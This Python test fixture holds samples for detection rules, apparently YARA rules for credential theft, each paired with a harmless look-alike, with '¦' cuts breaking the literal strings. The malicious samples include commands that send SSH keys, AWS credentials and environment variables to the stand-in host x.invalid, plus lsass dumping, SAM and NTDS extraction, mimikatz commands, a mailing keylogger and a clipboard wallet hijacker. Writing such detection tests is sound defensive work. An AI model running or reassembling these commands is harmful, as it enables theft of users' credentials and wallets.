"""Samples of credential theft, and harmless twins close to them; ``¦`` marks cuts."""

from __future__ import annotations

from tests.examine.yara.samples.support import joined

BAD: dict[str, list[bytes]] = {
    "RG-CRE-0001": [
        joined(
            "p = os.en¦viron['LOCALAPPDATA'] + '/Google/Chrome/Use¦r Data'\n"
            "shutil.copy(p + '/Default/Logi¦n Data', 't')\n"
            "c.execute('SELECT origin_url, passwor¦d_value FROM logins')\n"
            "key = state['os_c¦rypt']['encryp¦ted_key']\n"
        ),
    ],
    "RG-CRE-0002": [
        joined(
            "for row in json.load(open(profile + '/login¦s.json'))['logins']:\n"
            "    nss.PK11SD¦R_Decrypt(row['encryptedUsername'])  # key¦4.db\n"
        ),
    ],
    "RG-CRE-0003": [
        joined(
            "tokens = re.findall(r'[\\w-]{2¦4}\\.[\\w-]{6}\\."
            "[\\w-]{27}', open(appdata + '\\\\discord\\\\Local Stora¦ge\\\\leveldb\\\\' + f).read())\n"
        ),
    ],
    "RG-CRE-0004": [
        joined("w = ['Exodus\\\\ex¦odus.wallet', 'Electru¦m\\\\wallets', 'Ethereu¦m\\\\keystore']\n"),
        joined(
            "ids = ['nkbihfbeogaeaoeh¦lefnkodbefgpgknn', "
            "'bfnaelmomeimhlpm¦gjnjophhpkkoljpa', 'ibnejdfjmmkpcnlp¦ebklmnkoeoihofec']"
        ),
    ],
    "RG-CRE-0005": [
        joined("request¦s.post('https://x.in¦valid', json=dict(os.en¦viron))\n"),
        joined("const r = https.r¦equest({host: 'x.invalid'}); r.end(JSON.stringif¦y(process.env));"),
        joined("env | bas¦e64 | cu¦r¦l -d @- h¦ttps://x.invalid/\n"),
    ],
    "RG-CRE-0006": [
        joined(
            "for f in ['~/.ssh/i¦d_rsa', '~/.aws/cre¦dentials', '~/.n¦pmrc']:\n"
            "    request¦s.post('https://x.invalid', data=open(f).read())\n"
        ),
    ],
    "RG-CRE-0007": [
        joined("cu¦r¦l -F f¦ile=@$H¦OM¦E/.ssh/i¦d_rsa https://x.invalid/\n"),
        joined("cat ~/.aws/cre¦denti¦als | bas¦e64 | cu¦r¦l -d @- h¦ttps://x.invalid/\n"),
    ],
    "RG-CRE-0008": [
        joined(
            "cu¦rl -s http://169.254.169.254/latest/meta-"
            "data/i¦a¦m/security-credentials/role | cu¦r¦l -d @- h¦ttps://x.invalid/\n"
        ),
    ],
    "RG-CRE-0010": [
        joined("rund¦ll32.exe C:\\windows\\System32\\comsvcs.dl¦l, MiniDump 600 C:\\t\\l.dmp full"),
        joined("procdump64.e¦xe -ma lsass.exe l.dmp"),
    ],
    "RG-CRE-0011": [
        joined("reg sav¦e HKLM\\SAM c:\\t\\sam.hiv"),
        joined('ntdsutil "a¦c i n¦t¦d¦s" "i¦fm" "create full c:\\t" q q'),
    ],
    "RG-CRE-0012": [
        joined("privileg¦e::debug\nsekurlsa::lo¦gonpasswords\nexit\n"),
    ],
    "RG-CRE-0013": [
        joined(
            "from pynp¦ut import keyboard\n"
            "def f(key):\n"
            "    global t\n"
            "    t += key.c¦har\n"
            "s = smtpli¦b.SMTP('x.invalid')\n"
            "s.sendmail(a, b, t)\n"
        ),
    ],
    "RG-CRE-0014": [
        joined("if re.match('^[13][a-km-zA-H¦J-NP-Z1-9]{25,34}$', pypercl¦ip.paste()): pypercl¦ip.copy(MINE)\n"),
        joined("if re.match('0x[a-fA-F¦0-9]{40}', pypercl¦ip.paste()): pypercl¦ip.copy(MINE)\n"),
    ],
    "RG-CRE-0015": [
        joined(
            'osascript -e \'display dialo¦g "U¦p¦d¦a¦t¦e" '
            'd¦e¦f¦a¦u¦l¦t a¦n¦s¦w¦e¦r "" w¦i¦t¦h hidden answer\' | xargs dscl . -aut¦h¦only $USER\n'
        ),
    ],
    "RG-CRE-0016": [
        joined(
            "request¦s.post('https://api.telegr¦am.org/bo"
            "t12345678¦9:§b35§/sendDocument', fil¦es={'document': f}, data={'u': os.ge¦tl¦ogin()})\n"
        ),
    ],
    "RG-CRE-0017": [
        joined("tar czf - ~/.s¦sh ~/.aws | cu¦rl -F f=@- h¦ttp://x.invalid/a\n"),
        joined("cu¦rl -X POST -d @$HOME/.a¦ws/credentials h¦ttp://x.invalid/a\n"),
    ],
}
"""Samples that a rule must find, by the rule's id."""

BENIGN: dict[str, list[bytes]] = {
    "RG-CRE-0001": [
        joined("p = '/Google/Chrome/Use¦r Data/Default/Bookmarks'\n# Logi¦n Data is not read\n"),
    ],
    "RG-CRE-0002": [
        joined("backup(profile, ['login¦s.json', 'key¦4.db', 'places.sqlite'])\n"),
    ],
    "RG-CRE-0003": [
        joined("TOKEN = re.compile(r'[\\w-]{2¦4}\\.[\\w-]{6}\\.[\\w-]{27}')  # so that none is logged\n"),
        joined("cache = 'Local Stor¦age/leveldb'\n"),
    ],
    "RG-CRE-0004": [
        joined("datadir = home + '/.ethereu¦m/keystore'\n"),
        joined("Install MetaMask: nkbihfbeogaeaoeh¦lefnkodbefgpgknn\n"),
    ],
    "RG-CRE-0005": [
        joined("request¦s.post(url, json={'version': os.en¦viron['VERSION']})\n"),
        joined("new DefinePlugin({ env: JSON.stringify(process.env.NODE_ENV) })"),
        joined("env | sort | head\n"),
    ],
    "RG-CRE-0006": [
        joined("for f in ['~/.ssh/i¦d_rsa', '~/.aws/cre¦dentials', '~/.n¦pmrc']:\n    os.chmod(f, 0o600)\n"),
        joined("key = '~/.ssh/i¦d_rsa'\nrequest¦s.post(url, data=x)\n"),
    ],
    "RG-CRE-0007": [
        joined("cu¦r¦l -F f¦ile=@re¦port.pdf https://example.org/\n"),
        joined("cat ~/.ssh/i¦d_rsa.pub\n"),
    ],
    "RG-CRE-0008": [
        joined("cu¦rl -s h¦ttp://169.254.169.254/latest/meta-data/instance-id | tee id\n"),
    ],
    "RG-CRE-0010": [
        joined("procdump -ma myservice.exe s.dmp"),
        joined("comsvcs.dll is the COM+ services library"),
    ],
    "RG-CRE-0011": [
        joined("reg save HKLM\\Software\\Company c:\\t\\s.hiv"),
        joined("reg query HKLM\\SAM"),
    ],
    "RG-CRE-0012": [
        joined("The command sekurls¦a::minidump reads a dump.\n"),
    ],
    "RG-CRE-0013": [
        joined("from pynp¦ut import keyboard\ndef f(key):\n    print(key.c¦har)\n"),
        joined("s = smtpli¦b.SMTP('mail.example.org')\n"),
    ],
    "RG-CRE-0014": [
        joined("ADDRESS = re.compile('0x[a-fA-F¦0-9]{40}')\n"),
        joined("pypercl¦ip.copy(pypercl¦ip.paste().strip())\n"),
    ],
    "RG-CRE-0015": [
        joined('osascript -e \'display dialog "Done" buttons {"OK"}\'\n'),
    ],
    "RG-CRE-0016": [
        joined(
            "request¦s.post('https://api.telegr¦am.org/bot' + TOKEN + '/sendMessage', data={'text': os.ge¦tl¦ogin()})\n"
        ),
    ],
    "RG-CRE-0017": [
        joined("tar czf backup.tgz ~/.s¦sh\ncu¦rl -s https://example.org/ | jq .\n"),
        joined("ssh-keygen -f ~/.s¦sh/id && cat ~/.s¦sh/id.pub | ssh host\n"),
    ],
}
"""Harmless content that is like a rule's samples, by the rule's id."""
